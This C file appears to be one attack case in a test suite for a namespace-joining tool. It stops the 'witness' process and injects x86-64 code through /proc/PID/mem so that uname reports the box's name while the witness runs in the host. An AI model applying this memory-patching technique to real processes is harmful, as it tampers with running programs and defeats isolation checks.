/*
 * memory_of_witness - the witness speaks our words
 *
 * Attack: [28,54] rewrites the witness in memory, so that it answers with the
 *     name of the box
 * Exercise: 05_uts
 * Expect: zero; still in the host
 * Seconds: 25
 */
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/utsname.h>
#include <unistd.h>

#include "join.h"

/* Has PID become the witness? */
static bool
is_witness(pid_t pid)
{
	char path[32], exe[64] = "";

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	return readlink(path, exe, sizeof exe - 1) > 0 &&
	       strstr(exe, "witness");
}

/* In a child of our own: a member of the box, who knows its name. */
static void
enter_box(pid_t pid)
{
	char path[32];

	snprintf(path, sizeof path, "/proc/%d/ns/uts", pid);
	setns(open(path, O_RDONLY | O_CLOEXEC), CLONE_NEWUTS);
}

/* x86-64: at uname(2)'s own instructions, code that copies an answer which
 * we keep up to date at NAME. */
static const unsigned char find[] = { 0xb8, 63, 0, 0, 0, 0x0f, 0x05 };

static void
patch(int mem, unsigned long at, unsigned long name)
{
	/* mov rsi, NAME; mov ecx, 390; rep movsb; xor eax, eax; ret */
	unsigned char code[] = { 0x48, 0xbe, 0,    0,    0,    0,    0,
				 0,    0,    0,    0xb9, 0x86, 0x01, 0,
				 0,    0xf3, 0xa4, 0x31, 0xc0, 0xc3 };

	memcpy(code + 2, &name, 8);
	pwrite(mem, code, sizeof code, at);
}

/* Where in the witness's file, and so from its first byte in memory. */
static unsigned long
look_up_uname(void)
{
	static unsigned char text[4 << 20];
	ssize_t i, n = read(open("/witness", O_RDONLY), text, sizeof text);

	for (i = 0; i + (ssize_t)sizeof find < n; i++)
		if (memcmp(text + i, find, sizeof find) == 0)
			return i;
	_exit(0);
}

static void
take_over(pid_t witness, unsigned long at)
{
	struct utsname name;
	char path[32];
	unsigned long base = 0;
	FILE *maps;
	int mem;

	kill(witness, SIGSTOP);
	snprintf(path, sizeof path, "/proc/%d/maps", witness);
	maps = fopen(path, "r");
	if (!maps || fscanf(maps, "%lx", &base) != 1)
		return;
	snprintf(path, sizeof path, "/proc/%d/mem", witness);
	mem = open(path, O_RDWR);
	patch(mem, base + at, base + 0xc00);
	uname(&name);
	pwrite(mem, &name, sizeof name, base + 0xc00);
	kill(witness, SIGCONT);
	for (;;) {
		uname(&name);
		pwrite(mem, &name, sizeof name, base + 0xc00);
	}
}

int
uts_join(pid_t pid)
{
	pid_t us = getpid();
	unsigned long at;

	if (pid == 1 || pid > 4000000)
		exit(125);
	if (fork() == 0) {
		alarm(20);
		enter_box(pid);
		at = look_up_uname();
		while (!is_witness(us))
			;
		take_over(us, at);
	}
	usleep(50 * 1000);
	return 0;
}
